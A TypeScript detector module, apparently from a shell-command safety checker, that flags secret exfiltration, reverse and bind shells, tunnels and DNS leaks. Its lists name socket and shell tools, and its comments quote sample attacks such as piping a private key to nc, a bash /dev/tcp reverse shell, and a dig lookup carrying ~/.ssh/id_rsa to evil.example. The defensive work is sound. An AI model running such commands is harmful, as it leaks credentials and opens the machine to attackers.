/**
 * Exfiltration: a secret (a credential store from the read policy, a private key, the
 * environment) flowing into something that sends bytes to another machine; files only picked at
 * run time (a loop, find -exec, xargs) sent the same way; shells served over the network. File
 * servers that expose the home folder or `/` are judged in fileServers.ts.
 */
import type { Rule } from '../verdict';
import { resolvePath } from '../paths';
import { isDynamic } from '../words';
import type { CommandView, DetectorTable, HitSink } from './types';
import { optionValues, splitOptions } from './types';
import {
  dumpsEnvironment,
  dumpsEnvironmentText,
  isSecretPath,
  SECRET_NAME,
  secretInWord,
  secretOutputOf,
} from './secrets';
import {
  OBJECT_STORES,
  TUNNELS,
  awkSocket,
  remoteDisplay,
  zshSocket,
  lookupChannel,
  outsideFile,
  outsideOutput,
  runtimeFile,
  runtimeOutput,
  sendsOffMachine,
  shownFile,
  secretVariableSent,
  storeUpload,
  tunnel,
} from './exfiltrationMore';
import { projectOutput } from './projectUpload';
import { printedSecret, printedSecretFile, secretRedirectCopy, teeCopy } from './secretCopies';
import { loginStdinSecret } from './loginSecrets';

export const exfiltrationRules: Rule[] = [
  {
    key: 'secret-exfiltration',
    category: 'exfiltration',
    description:
      'Sends credentials, private keys, the environment, the clipboard or a database dump to another machine',
  },
  {
    key: 'remote-shell',
    category: 'exfiltration',
    description: 'Hands a shell to the network (reverse or bind shell)',
  },
  {
    key: 'outside-upload',
    category: 'exfiltration',
    description: 'Sends a file from outside the workspace to another machine',
  },
  {
    key: 'runtime-upload',
    category: 'exfiltration',
    description:
      'Sends a file named only at run time (a loop variable, find -exec, xargs) to another machine',
  },
  {
    key: 'reverse-tunnel',
    category: 'exfiltration',
    description: 'Opens a way from another machine or the internet back into this one',
  },
  {
    key: 'proxy-tunnel',
    category: 'network',
    description: "Opens a proxy that carries this machine's traffic out through another machine (ssh -D)",
  },
  {
    key: 'lookup-channel',
    category: 'exfiltration',
    description: 'Sends command output to another machine inside a name lookup (DNS exfiltration)',
  },
  {
    key: 'exposed-server',
    category: 'exfiltration',
    description: 'Serves the home folder, a system directory or files outside the project over the network',
  },
];

const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'mksh', 'fish', 'ash', 'busybox', 'tcsh', 'csh']);
/** Raw socket tools: whatever reaches their stdin goes to the peer. */
const SOCKETS = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet', 'cryptcat', 'pwncat']);
/** Mail senders: stdin is the message, `-a` attaches files. */
const MAILERS = new Set(['mail', 'mailx', 'sendmail', 'mutt', 'msmtp', 's-nail', 'ssmtp']);
const LOOKUPS = new Set(['dig', 'nslookup', 'host', 'drill', 'ping', 'ping6', 'traceroute']);
const CURL_DATA = [
  'data',
  'data-binary',
  'data-urlencode',
  'data-ascii',
  'json',
  'form',
  'form-string',
  'upload-file',
];
const REMOTE_OPERAND = /^(?:[\w.-]+@)?[\w.-]+:(?!\/\/)/;

function isShell(v: CommandView): boolean {
  return SHELLS.has(v.name) && !v.args.some((a) => /^-[a-z]*c/i.test(a));
}

/** Whether the last command of a stage's text is a shell reading its stdin (`… | sh -i 2>&1`). */
function endsInShell(text: string): boolean {
  const last = text.slice(Math.max(text.lastIndexOf('|'), text.lastIndexOf(';'), text.lastIndexOf('&&')) + 1);
  const words = last
    .trim()
    .split(/\s+/)
    .filter((w) => !/^\d?>&\d$/.test(w));
  const name = (words[0] ?? '').slice((words[0] ?? '').lastIndexOf('/') + 1);
  return SHELLS.has(name) && words.slice(1).every((w) => /^-[a-z]+$/i.test(w) && w.includes('i'));
}

/** Files a sender uploads, and whether it sends its stdin. */
function uploads(v: CommandView): { files: string[]; stdin: boolean } | null {
  const files: string[] = [];
  switch (v.name) {
    case 'curl': {
      const values = [
        ...optionValues(v.args, 'd', CURL_DATA),
        ...optionValues(v.args, 'F', []),
        ...optionValues(v.args, 'T', []),
      ];
      if (values.length === 0) return null;
      let stdin = false;
      // `--data-urlencode name@file` reads the file too, with no `=` before the `@`.
      const encoded = new Set(optionValues(v.args, null, ['data-urlencode']));
      for (const raw of values) {
        const at = (encoded.has(raw) ? /^[^=@]*@(.*)$/ : /(?:^|=)[@<]([^;]*)/).exec(raw);
        const path = at?.[1] ?? (optionValues(v.args, 'T', ['upload-file']).includes(raw) ? raw : null);
        if (path === '-' || path === '.') stdin = true;
        else if (path) files.push(path);
      }
      return { files, stdin };
    }
    case 'wget': {
      const f = optionValues(v.args, null, ['post-file', 'body-file']);
      return f.length > 0 || optionValues(v.args, null, ['post-data', 'body-data']).length > 0
        ? { files: f, stdin: false }
        : null;
    }
    case 'http':
    case 'https':
    case 'xh':
      // `@file` bodies and `field=@file`, `field@file` form uploads.
      return { files: v.args.flatMap((a) => /^(?:[\w.-]*=?)?@(.+)$/.exec(a)?.[1] ?? []), stdin: true };
    case 'ssh':
      return { files: [], stdin: splitOptions(v.args).operands.length > 1 };
    case 'sftp':
      // Its batch of commands (`put FILE`) comes on stdin; `-b` names a file of them instead.
      return { files: ftpPuts(v.stdin ?? ''), stdin: false };
    case 'scp':
    case 'rsync': {
      const ops = splitOptions(v.args).operands;
      const dest = ops[ops.length - 1] ?? '';
      return REMOTE_OPERAND.test(dest) && !dest.startsWith('/')
        ? { files: ops.slice(0, -1), stdin: false }
        : null;
    }
    case 'openssl':
      return v.args[0] === 's_client' ? { files: [], stdin: true } : null;
    case 'gh':
    case 'glab':
      return forgeUploads(splitOptions(v.args).operands);
    case 'ftp':
    case 'lftp':
    case 'tftp':
    case 'ncftp':
      return { files: ftpPuts(v.stdin ?? v.args.join('\n')), stdin: false };
  }
  if (MAILERS.has(v.name)) return { files: optionValues(v.args, 'a', ['attach']), stdin: true };
  return SOCKETS.has(v.name) ? { files: [], stdin: true } : null;
}

/** `gh gist create FILES` (stdin with none or `-`), `gh release create|upload TAG FILES`, `glab snippet create FILES`. */
function forgeUploads(ops: readonly string[]): { files: string[]; stdin: boolean } | null {
  const [area, verb] = ops;
  const files =
    (area === 'gist' || area === 'snippet') && verb === 'create'
      ? ops.slice(2)
      : area === 'release' && (verb === 'create' || verb === 'upload')
        ? ops.slice(3)
        : null;
  if (files === null) return null;
  return {
    files: files.filter((f) => f !== '-'),
    stdin: files.includes('-') || (area === 'gist' && files.length === 0),
  };
}

/** Files an ftp script uploads: `put .env`, `mput *.pem`, lftp's `-e 'put f'`. */
function ftpPuts(script: string): string[] {
  const found: string[] = [];
  const re = /(?:^|[\n;'"]|-e )[ \t]{0,16}(?:put|mput|send|append|reput)[ \t]{1,16}([^\s;'"]{1,1000})/g;
  for (let m = re.exec(script); m && found.length < 16; m = re.exec(script)) found.push(m[1] ?? '');
  return found;
}

/** A shell offered over a socket: `nc -e sh`, `ncat --exec`, `socat … EXEC:bash`. */
function servesShell(v: CommandView): boolean {
  if (v.name === 'socat') return v.args.some((a) => /^(?:exec|system):/i.test(a));
  if (!SOCKETS.has(v.name)) return false;
  return (
    optionValues(v.args, 'e', ['exec', 'sh-exec', 'lua-exec']).length > 0 ||
    optionValues(v.args, 'c', []).length > 0
  );
}

function sender(cmd: CommandView, out: HitSink): void {
  if (servesShell(cmd)) out.hit('remote-shell', `${cmd.name} ${cmd.args.join(' ')}`);
  // A secret in any word crosses the network: in the URL, a header, a query, the remote command.
  const inWord = cmd.words.map(secretInWord).find((s) => s !== null) ?? secretVariableSent(cmd);
  if (inWord) return out.hit('secret-exfiltration', `${cmd.name} sends ${inWord}`);
  const up = uploads(cmd);
  if (!up) return;
  const secret = up.files.find((f) => isSecretPath(f));
  if (secret) return out.hit('secret-exfiltration', `${cmd.name} sends ${secret}`);
  const outside = up.files.find((f) => outsideFile(cmd, f));
  if (outside) return out.hit('outside-upload', `${cmd.name} sends ${outside}`);
  const picked = runtimeFile(cmd, up.files);
  if (picked) out.hit('runtime-upload', `${cmd.name} sends ${picked}`);
}

/** A command that puts a secret on its stdout, or null. */
function secretOutput(v: CommandView): string | null {
  if (dumpsEnvironment(v.name, v.args)) return 'the environment';
  // `printenv AWS_SECRET_ACCESS_KEY`: one variable, named for what it holds.
  const named = v.name === 'printenv' ? v.args.find((a) => SECRET_NAME.test(a)) : undefined;
  if (named) return `$${named}`;
  // `echo "$GITHUB_TOKEN" | nc …`: a credential variable printed for the next stage.
  if (v.name === 'echo' || v.name === 'printf') {
    const variable = secretVariableSent(v);
    if (variable) return variable;
  }
  if (v.name === 'history' || (v.name === 'fc' && v.args.some((a) => /^-\w*l/.test(a))))
    return 'the shell history';
  return v.args.find((a) => isSecretPath(resolvePath(v.cwd, a))) ?? secretOutputOf(v.name, v.args);
}

/** A stage the walker could not name: bare `env` unwraps to nothing. */
export interface FlowStage {
  view: CommandView | null;
  text: string;
}

/** Pipelines: a secret read upstream reaching a sender; a shell's output reaching a socket. */
export function pipelineExfiltrationHits(
  stages: readonly FlowStage[],
  sinkFor: (i: number) => HitSink,
): void {
  let secret: string | null = null;
  let outside: string | null = null;
  let picked: string | null = null;
  let project: string | null = null;
  let printed: string | null = null;
  let secretFile: string | undefined;
  let shell = false;
  stages.forEach((stage, i) => {
    const v = stage.view;
    // `ssh host CMD` unwraps to the remote command; its stdin still crosses the network.
    const remote = (v === null || v.via.includes('ssh')) && /^\s*(?:\S*\/)?ssh\s/.test(stage.text);
    const up = v ? uploads(v) : remote ? { files: [], stdin: true } : null;
    if (remote && secret) sinkFor(i).hit('secret-exfiltration', `${secret} piped to ssh`);
    if (v && up?.stdin && secret) sinkFor(i).hit('secret-exfiltration', `${secret} piped to ${v.name}`);
    else if (up?.stdin && outside)
      sinkFor(i).hit('outside-upload', `${outside} piped to ${v?.name ?? 'ssh'}`);
    else if (up?.stdin && picked && (v === null || sendsOffMachine(v)))
      sinkFor(i).hit('runtime-upload', `${picked} piped to ${v?.name ?? 'ssh'}`);
    else if (up?.stdin && project && (v === null || sendsOffMachine(v)))
      sinkFor(i).hit('project-upload', `${project} piped to ${v?.name ?? 'ssh'}`);
    const tls = v?.name === 'openssl' && v.args[0] === 's_client';
    const to = remote ? 'ssh' : v && (SOCKETS.has(v.name) || v.name === 'ssh' || tls) ? v.name : null;
    if (up && shell && to) sinkFor(i).hit('remote-shell', `a shell piped to ${to}`);
    const own = v ? secretOutput(v) : dumpsEnvironmentText(stage.text) ? 'the environment' : null;
    secret ??= own;
    outside ??= v ? outsideOutput(v) : null;
    picked ??= v ? runtimeOutput(v) : null;
    project ??= v ? projectOutput(v) : null;
    if (printed && v?.name === 'tee') teeCopy(printed, v, sinkFor(i));
    if (secretFile && v) loginStdinSecret(v, secretFile, sinkFor(i));
    secretFile ??= v ? printedSecretFile(v) : undefined;
    printed ??= v ? printedSecret(v) : null;
    // The parser hangs `a | sh -i 2>&1` on one redirected stage: read its last command from the text.
    shell = v !== null ? isShell(v) : endsInShell(stage.text);
  });
}

/** `nc host < ~/.ssh/id_rsa`, `bash -i >& /dev/tcp/…`, `cat key > /dev/tcp/…`. */
export function redirectExfiltrationHits(
  view: CommandView | null,
  /** The redirected command's text, read when the walker gives no view of it. */
  text: string,
  target: string,
  reads: boolean,
  out: HitSink,
): void {
  if (reads) {
    const sends = view !== null && (uploads(view)?.stdin === true || view.via.includes('ssh'));
    if (sends && isSecretPath(target)) out.hit('secret-exfiltration', `${view.name} sends ${target}`);
    else if (sends && isDynamic(target) && sendsOffMachine(view))
      out.hit('runtime-upload', `${view.name} sends ${shownFile(target)}`);
    return;
  }
  secretRedirectCopy(view, text, target, out);
  if (!/^\/dev\/(?:tcp|udp)\//.test(target) || !view) return;
  if (isShell(view)) out.hit('remote-shell', `${view.name} wired to ${target}`);
  const secret = secretOutput(view);
  if (secret) out.hit('secret-exfiltration', `${secret} sent to ${target}`);
}

/** `dig "$(head -c 30 ~/.ssh/id_rsa | xxd -p).evil.example"`: a name lookup carries what is in its words. */
function lookup(cmd: CommandView, out: HitSink): void {
  const secret = cmd.words.map(secretInWord).find((s) => s !== null);
  if (secret) out.hit('secret-exfiltration', `${cmd.name} sends ${secret} in a name lookup`);
}

export const exfiltrationDetectors: DetectorTable = [
  [
    [
      'curl',
      'wget',
      'http',
      'https',
      'xh',
      'ssh',
      'scp',
      'sftp',
      'rsync',
      'openssl',
      'ftp',
      'lftp',
      'tftp',
      'ncftp',
      'gh',
      'glab',
      ...MAILERS,
      ...SOCKETS,
    ],
    sender,
  ],
  [[...LOOKUPS], lookup],
  [[...LOOKUPS], lookupChannel],
  [[...OBJECT_STORES], storeUpload],
  [[...TUNNELS], tunnel],
  [['awk', 'gawk'], awkSocket],
  [['xterm', 'uxterm', 'rxvt', 'urxvt'], remoteDisplay],
  [['ztcp'], zshSocket],
];
